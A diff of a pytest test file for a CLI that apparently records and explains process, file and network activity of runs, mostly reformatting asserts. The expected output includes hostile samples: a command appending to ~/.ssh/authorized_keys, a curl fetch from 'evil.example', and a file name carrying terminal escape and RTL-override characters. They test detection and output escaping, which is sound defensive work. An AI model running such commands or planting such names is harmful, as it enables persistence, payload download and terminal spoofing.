@@ -7,7 +7,7 @@ import shutil
 
 import pytest
 
-from tests.cli.conftest import LIVE, OLD, RID
+from .conftest import LIVE, OLD, RID
 
 UNSAFE = ("\x1b", "\x07", "\x9b", "\u202e", "\r")
 
@@ -22,10 +22,22 @@ def test_runs_lists_every_run_full_ids_newest_last(cli):
     code, out, _ = cli("runs")
     assert code == 0
     lines = out.splitlines()
-    assert lines[0].split() == ["run", "started", "duration", "exit", "status", "events", "detections", "command"]
+    assert lines[0].split() == [
+        "run",
+        "started",
+        "duration",
+        "tool",
+        "exit",
+        "status",
+        "events",
+        "detections",
+        "command",
+    ]
     assert [ln.split()[0] for ln in lines[2:]] == [OLD, RID, LIVE]
     assert lines[3].split("  ")[0] == RID
-    assert " 2026-01-02 15:04:05Z " in lines[3] and " COMPLETE " in lines[3] and "1 high, 1 medium" in lines[3]
+    assert (
+        " 2026-01-02 15:04:05Z " in lines[3] and " COMPLETE " in lines[3] and "1 high, 1 medium" in lines[3]
+    )
     assert " RUNNING " in lines[4] and " running " in lines[4]
 
 
@@ -144,7 +156,10 @@ def test_query_same_results_from_jsonl_fallback(cli, home, tmp_path, monkeypatch
 def test_query_tables_per_type_are_escaped(cli):
     _, out, _ = cli("query", RID, "--type", "file", "--color", "always")
     assert out.splitlines()[0].split() == ["seq", "at", "pid", "exe", "op", "path"]
-    assert "  9  +2s    100  /usr/bin/bash  create  /home/u/proj/evil\\x1b[31mRED\\x1b]0;pwn\\x07\\nname\\u202etxt.sh" in out
+    assert (
+        "  9  +2s    100  /usr/bin/bash  create  /home/u/proj/evil\\x1b[31mRED\\x1b]0;pwn\\x07\\nname\\u202etxt.sh"
+        in out
+    )
     assert " 12  +3s    100  /usr/bin/bash  rename  /home/u/proj/a.txt -> /home/u/proj/b.txt" in out
     assert "\x1b[31mRED" not in out
     _, out, _ = cli("query", RID, "--type", "exec")
@@ -165,7 +180,9 @@ def test_query_json_is_stored_schema_with_exact_bytes(cli):
     assert r["data_json"]["path"] == "/tmp/bad\\xff\\xfe.bin"
     assert bytes.fromhex(r["raw_bytes"]["data_json.path"]) == b"/tmp/bad\xff\xfe.bin"
     _, out, _ = cli("query", RID, "--json", "--path", "**/evil*")
-    assert json.loads(out)["data_json"]["path"] == "/home/u/proj/evil\x1b[31mRED\x1b]0;pwn\x07\nname\u202etxt.sh"
+    assert (
+        json.loads(out)["data_json"]["path"] == "/home/u/proj/evil\x1b[31mRED\x1b]0;pwn\x07\nname\u202etxt.sh"
+    )
 
 
 def test_query_limit_and_all(cli):
@@ -185,7 +202,9 @@ def test_explain_groups_with_evidence(cli):
     assert "    event:    seq 7 +1.5s pid 100  file modify /home/u/.ssh/authorized_keys" in lines
     assert "    process:  pid 100 bash -c 'echo k >> ~/.ssh/authorized_keys'  (cwd /home/u/proj)" in lines
     assert "    parent:   pid 99 claude --yolo  (cwd /home/u/proj)" in lines
-    assert lines.index("[HIGH] R010  SSH key persistence   1x, +1.5s") < lines.index("[MEDIUM] R020  Temp dropper   1x, +2.5s")
+    assert lines.index("[HIGH] R010  SSH key persistence   1x, +1.5s") < lines.index(
+        "[MEDIUM] R020  Temp dropper   1x, +2.5s"
+    )
     assert "    step 1:   seq 3 +0.3s pid 101  exec curl -s http://evil.example/x" in lines
     assert "    step 2:   seq 10 +2.5s pid 101  file create /tmp/bad\\xff\\xfe.bin" in lines
     assert_terminal_safe(out)
@@ -200,7 +219,9 @@ def test_explain_json_and_drill(cli):
     code, out, _ = cli("explain", RID, "--drill", "8")
     assert code == 0 and "[HIGH] R010  SSH key persistence" in out and "seq 7" in out
     code, out, _ = cli("explain", RID, "--drill", "10")  # an event: show it and what flagged it
-    assert code == 0 and out.splitlines()[1].startswith("Event seq 10 +2.5s file pid 101: file create /tmp/bad\\xff")
+    assert code == 0 and out.splitlines()[1].startswith(
+        "Event seq 10 +2.5s file pid 101: file create /tmp/bad\\xff"
+    )
     assert "[MEDIUM] R020  Temp dropper" in out
 
 
@@ -214,10 +235,19 @@ def test_explain_no_detections(cli):
     [
         (["view", "nope-run"], "error: run nope-run not found under "),
         (["view", "../etc"], "error: "),
-        (["query", RID, "--type", "bogus"], "error: invalid --type 'bogus' (expected exec|proc|file|net|detection|all, or a list)"),
-        (["query", RID, "--severity", "urgent"], "error: invalid --severity 'urgent' (expected info | low | medium | high | critical, a list, or >=LEVEL)"),
+        (
+            ["query", RID, "--type", "bogus"],
+            "error: invalid --type 'bogus' (expected exec|proc|file|net|detection|all, or a list)",
+        ),
+        (
+            ["query", RID, "--severity", "urgent"],
+            "error: invalid --severity 'urgent' (expected info | low | medium | high | critical, a list, or >=LEVEL)",
+        ),
         (["query", RID, "--ts", "local"], "error: invalid --ts 'local' (expected abs|rel|both)"),
-        (["view", RID, "--color", "rainbow"], "error: invalid --color 'rainbow' (expected auto|always|never)"),
+        (
+            ["view", RID, "--color", "rainbow"],
+            "error: invalid --color 'rainbow' (expected auto|always|never)",
+        ),
         (["query", RID, "--dest", "1.2.3.4:99999"], "error: invalid --dest '1.2.3.4:99999'"),
         (["query", RID, "--limit", "0"], "error: invalid --limit 0 (expected a positive number, or --all)"),
         (["query", RID, "--tree"], "error: --tree needs --pid N"),
@@ -237,6 +267,8 @@ def test_no_runs(cli, tmp_path, monkeypatch):
     assert code == 1 and err == f"error: no runs yet under {tmp_path}/runs\n"
     code, out, _ = cli("runs")
     assert code == 0 and out == f"(no runs under {tmp_path}/runs)\n"
+    code, _, err = cli("query", "--severity", "loud")  # flags are checked before any run is looked up
+    assert code == 2 and err.startswith("error: invalid --severity 'loud'")
 
 
 def test_colour_env(cli, monkeypatch):
@@ -252,5 +284,3 @@ def test_colour_env(cli, monkeypatch):
     assert "\x1b[33mmedium\x1b[0m" in out
     _, out, _ = cli("query", RID, "--type", "detection", "--color", "always", "--no-color")
     assert "\x1b[" not in out
-
-
